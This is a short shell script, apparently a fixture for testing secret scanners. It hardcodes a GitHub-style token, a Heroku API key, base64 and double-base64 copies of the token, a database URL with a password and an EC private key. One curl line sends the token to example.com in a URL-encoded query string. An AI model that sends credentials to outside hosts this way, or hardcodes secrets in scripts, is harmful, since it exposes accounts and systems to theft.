#!/bin/sh
TOKEN=ghp_XuoYhDILjNF0b7kYFZltfWHmlfmIBRe08TU0
heroku_api_key=171c817c-81e0-4fcf-a37b-c6f0705f1feb
HIDDEN=dG9rZW46IGdocF9YdW9ZaERJTGpORjBiN2tZRlpsdGZXSG1sZm1JQlJlMDhUVTAK
TWICE=ZEc5clpXNDZJR2RvY0Y5WWRXOVphRVJKVEdwT1JqQmlOMnRaUmxwc2RHWlhTRzFzWm0xSlFsSmxNRGhVVlRBSw==
curl "https://example.com/?t=%22ghp_XuoYhDILjNF0b7kYFZltfWHmlfmIBRe08TU0%22"
psql postgres://app:t4Vq9zKw1pX@db.internal/app
cat >key.pem <<'EOF'
-----BEGIN EC PRIVATE KEY-----
MHcCAQEEIASlHrnpEUVfYGrdwDmtbfNPP7s15dlSVwrRAXbX9sZPoAoGCCqGSM49
AwEHoUQDQgAEyNfWkAzPm0d6aP+fvMAQOaRujW9HbpwzDnsqV11eTtypgbyrZh41
tlWHazrbozxgKz6EMYWDATAtNxiyzSsT7w==
-----END EC PRIVATE KEY-----
EOF
